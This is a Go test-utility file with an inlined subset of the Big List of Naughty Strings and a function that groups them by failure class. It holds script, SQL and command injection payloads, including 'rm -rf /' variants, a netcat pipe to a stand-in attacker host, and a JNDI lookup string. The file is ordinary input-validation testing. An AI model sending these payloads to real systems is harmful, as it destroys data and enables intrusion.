package testutil

import "strings"

// NaughtyStrings is a curated subset of the Big List of Naughty
// Strings (https://github.com/minimaxir/big-list-of-naughty-strings),
// inlined rather than embedded from testdata since this module ships
// no bundled JSON fixture. It covers the adversarial-input classes
// that list is known for:
// empty/null-ish values, script and SQL injection payloads, path
// traversal, format-string tokens, RTL/zalgo/emoji unicode, and
// reserved filenames.
var NaughtyStrings = []string{
	"",
	"null",
	"nil",
	"undefined",
	"NaN",
	"-1",
	"0x0",
	"1e308",
	"'",
	"\"",
	"`",
	"<script>alert(1)</script>",
	"javascript:alert(1)",
	"<img src=x onerror=alert(1)>",
	"' OR '1'='1",
	"'; DROP TABLE users; --",
	"1' AND '1'='1",
	"../../../../etc/passwd",
	"..\\..\\..\\windows\\system32",
	"%2e%2e%2f%2e%2e%2f",
	"; rm -rf /",
	"$(rm -rf /)",
	"`rm -rf /`",
	"| nc attacker.com 4444",
	"%s%s%s%s%s",
	"%n%n%n%n",
	"{0}{1}{2}",
	"${jndi:ldap://evil/a}",
	"CON",
	"NUL",
	"COM1",
	"LPT1.txt",
	"\x00",
	"​​​",
	"T̈́̃ḧ́̃ḯ̃s̈́̃",
	"‮evil‬",
	"مرحبا بالعالم",
	"שלום עולם",
	"こんにちは世界",
	"🔥💯🎉🚀",
	"Ω≈ç√∫˜µ≤≥÷",
	strings.Repeat("a", 10000),
	strings.Repeat("日", 5000),
	" leading and trailing whitespace ",
	"\t\n\r\v\f",
	"line1\nline2\nline3",
}

// NaughtyStringCategories groups NaughtyStrings by the failure mode
// they target, for tests that want to exercise one class at a time
// rather than the whole list.
type NaughtyStringCategories struct {
	Empty            []string
	ScriptInjection  []string
	SQLInjection     []string
	CommandInjection []string
	PathTraversal    []string
	FormatStrings    []string
	Unicode          []string
	ReservedNames    []string
	Oversized        []string
}

// Categorize partitions NaughtyStrings into NaughtyStringCategories.
// A string may appear in more than one category.
func Categorize() NaughtyStringCategories {
	var c NaughtyStringCategories
	for _, s := range NaughtyStrings {
		lower := strings.ToLower(s)
		if s == "" || lower == "null" || lower == "nil" || lower == "undefined" {
			c.Empty = append(c.Empty, s)
		}
		if strings.Contains(lower, "<script") || strings.Contains(lower, "javascript:") || strings.Contains(lower, "onerror=") {
			c.ScriptInjection = append(c.ScriptInjection, s)
		}
		if strings.Contains(lower, "drop table") || strings.Contains(s, "' OR '") || strings.Contains(s, "--") {
			c.SQLInjection = append(c.SQLInjection, s)
		}
		if strings.Contains(s, "$(") || strings.Contains(s, "`") || strings.Contains(s, "; rm") || strings.Contains(s, "| nc") {
			c.CommandInjection = append(c.CommandInjection, s)
		}
		if strings.Contains(s, "../") || strings.Contains(s, "..\\") || strings.Contains(lower, "%2e%2e") {
			c.PathTraversal = append(c.PathTraversal, s)
		}
		if strings.Contains(s, "%s") || strings.Contains(s, "%n") || strings.Contains(s, "{0}") || strings.Contains(s, "${") {
			c.FormatStrings = append(c.FormatStrings, s)
		}
		if hasNonASCII(s) {
			c.Unicode = append(c.Unicode, s)
		}
		upper := strings.ToUpper(s)
		if upper == "CON" || upper == "NUL" || upper == "COM1" || strings.HasPrefix(upper, "LPT1.") {
			c.ReservedNames = append(c.ReservedNames, s)
		}
		if len(s) > 1000 {
			c.Oversized = append(c.Oversized, s)
		}
	}
	return c
}

func hasNonASCII(s string) bool {
	for _, r := range s {
		if r > 127 {
			return true
		}
	}
	return false
}
